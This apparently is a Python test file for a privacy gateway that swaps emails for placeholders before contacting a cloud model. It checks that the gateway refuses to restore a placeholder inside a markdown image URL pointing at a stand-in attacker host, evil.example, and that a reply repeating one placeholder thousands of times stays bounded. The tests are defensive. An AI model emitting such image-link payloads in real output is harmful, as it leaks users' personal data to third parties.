"""A cloud that asks for values in its own addresses, or for more than there is: what the caller, the record, the
metrics and `netgpt explain` say of it."""

from pathlib import Path
from typing import Any

from doors import door

from netgpt.testing.server import FaultyCloud

MAIL = "ada@mill.example"
ASKED = f"Write to {MAIL} about https://shop.example/orders?mail={MAIL}"
ANSWER = "![x](https://evil.example/p.png?q=[EMAIL_1]) https://shop.example/orders?mail=[EMAIL_1] to [EMAIL_1]"
SHOWN = f"![x](https://evil.example/p.png?q=[EMAIL_1]) https://shop.example/orders?mail={MAIL} to {MAIL}"


async def test_what_is_not_put_back_is_told(tmp_path: Path) -> None:
    async with FaultyCloud(reply=lambda _body: ANSWER) as cloud, door(tmp_path, cloud) as here:
        fields: dict[str, Any] = {"model": "netgpt/cloud", "user": "ada"}
        whole = (await here.chat(text=ASKED, fields=fields)).json()
        assert whole["choices"][0]["message"]["content"] == SHOWN
        assert whole["netgpt"]["placeholders_kept"] == {"address_or_name": 1, "too_much": 0}
        streamed = (await here.chat(text=ASKED, fields={**fields, "stream": True})).text
        assert MAIL in streamed and '"address_or_name":1' in streamed
        row = (await here.get(f"/v1/exchanges/{whole['netgpt']['exchange']}", params={"user": "ada"})).json()
        assert row["restoring"] == {"restored": 2, "unresolved": 0, "withheld": 1}
        counted = here.gateway.metrics.text().decode()
        assert 'netgpt_placeholders_total{result="withheld"} 2.0' in counted and MAIL not in counted


async def test_an_answer_of_one_placeholder_grows_within_bounds(tmp_path: Path) -> None:
    secret = (
        "my private key is -----BEGIN PRIVATE KEY-----\n"
        + "MIIEvQIBADANBgkqhkiG9w0B\n" * 300
        + "-----END PRIVATE KEY-----"
    )
    placeholders: list[str] = []

    def reply(body: Any) -> str:
        placeholders[:] = [word for word in str(body["messages"][-1]["content"]).split() if word.startswith("[")]
        return placeholders[0] * 5_000

    async with FaultyCloud(reply=reply) as cloud, door(tmp_path, cloud) as here:
        answer = await here.chat(text=secret, fields={"model": "netgpt/cloud", "user": "ada"})
        assert placeholders and len(answer.content) < 1_500_000
        kept = answer.json()["netgpt"]["placeholders_kept"]
        assert kept["too_much"] > 4_000 and kept["address_or_name"] == 0
